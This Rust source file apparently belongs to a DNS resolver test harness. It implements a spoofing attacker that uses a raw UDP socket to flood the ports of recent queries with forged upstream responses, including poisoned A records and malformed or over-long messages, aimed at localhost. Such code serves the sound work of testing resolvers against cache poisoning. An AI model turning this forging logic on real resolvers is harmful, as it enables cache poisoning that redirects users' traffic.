//! Forged responses from the address and port of an upstream server. The forger does not see the queries, but is given the
//! ports that they come from.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::thread::sleep;
use std::time::{Duration, Instant};

use nodens::bench::draw::Random;
use socket2::{Domain, Protocol, Socket, Type};

use crate::attack::Target;
use crate::packets::{A, query};
use crate::scene::fresh;

/// Pause between two bursts.
const TICK: Duration = Duration::from_micros(500);
/// Most messages of one burst.
const BURST: u64 = 500;
/// Interval between look-ups of the ports.
const LOOK_EVERY: Duration = Duration::from_millis(100);
/// Number of target ports: those of the latest queries.
const PORTS: usize = 64;
/// Number of names in forged responses, out of those that the honest client may query.
const NAMES: u64 = 4_096;
/// Length of a message header, in bytes.
const HEADER: usize = 12;
/// Bytes appended to a message to make it longer than any receiver reads.
const OVER_LONG: usize = 5_000;
/// Forged answer: a record of the name in the question, A, IN, TTL 1 h, an address that no name has.
const FORGED: &[u8] = b"\xc0\x0c\0\x01\0\x01\0\0\x0e\x10\0\x04\xcb\0\x71\x09";

/// Content of a response after its header.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Form {
    Answer,
    NoAnswer,
    NoQuestion,
    OtherQuestion,
    OverLong,
}

/// All shapes: form, TC, response code. Names are in lower case.
const SHAPES: [(Form, u8, u8); 9] = [
    (Form::Answer, 0, 0),
    (Form::Answer, 2, 0),
    (Form::NoAnswer, 0, 2),
    (Form::NoAnswer, 0, 1),
    (Form::NoQuestion, 0, 0),
    (Form::NoQuestion, 0, 1),
    (Form::NoQuestion, 0, 2),
    (Form::OtherQuestion, 0, 0),
    (Form::OverLong, 0, 0),
];

/// Sends `rate` forged responses a second, in all shapes. This needs CAP_NET_RAW.
pub fn forge(target: &Target, rate: u64) -> io::Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP))?;
    let to = SocketAddr::from((Ipv4Addr::LOCALHOST, 0)).into();
    let from = target.well.address().port();
    let mut random = Random::new(7);
    let (start, mut done) = (Instant::now(), 0);
    let (mut ports, mut looked) = (Vec::new(), None);
    while !target.is_over() {
        if looked.is_none_or(|looked: Instant| looked.elapsed() > LOOK_EVERY) {
            looked = Some(Instant::now());
            let seen = target.well.seen();
            ports = seen.iter().rev().take(PORTS).map(|seen| seen.client.port()).collect();
            // The floor sends no queries to an upstream.
            if ports.is_empty() {
                ports.push(target.address.port());
            }
        }
        let due = (start.elapsed().as_secs_f64() * rate as f64) as u64;
        let burst = (due - done).min(BURST);
        done = due;
        let mut sent = 0;
        for number in 0..burst {
            let drawn = random.bits();
            let port = ports[(drawn >> 32) as usize % ports.len()];
            let message = response(number, drawn as u16, (drawn >> 16) % NAMES * 2); // even: a zone over UDP
            let mut datagram = Vec::with_capacity(8 + message.len());
            // Source, destination, length, no checksum (RFC 768).
            for word in [from, port, 8 + message.len() as u16, 0] {
                datagram.extend_from_slice(&word.to_be_bytes());
            }
            datagram.extend_from_slice(&message);
            sent += u64::from(socket.send_to(&datagram, &to).is_ok());
        }
        target.count(sent);
        sleep(TICK);
    }
    Ok(())
}

/// Returns a response in one of the shapes, which `number` selects.
fn response(number: u64, id: u16, name: u64) -> Vec<u8> {
    let (form, flags, rcode) = SHAPES[number as usize % SHAPES.len()];
    let name = if form == Form::OtherQuestion { "other.well.example".to_owned() } else { fresh(name) };
    let mut message = query(id, &name, A);
    (message[2], message[3]) = (0x85 | flags, 0x80 | rcode); // QR, AA, RD, RA
    match form {
        Form::NoAnswer => {}
        Form::NoQuestion => {
            message.truncate(HEADER);
            message[5] = 0;
        }
        Form::Answer | Form::OtherQuestion | Form::OverLong => {
            message[7] = 1;
            message.extend_from_slice(FORGED);
        }
    }
    if form == Form::OverLong {
        message.resize(message.len() + OVER_LONG, 0);
    }
    message
}
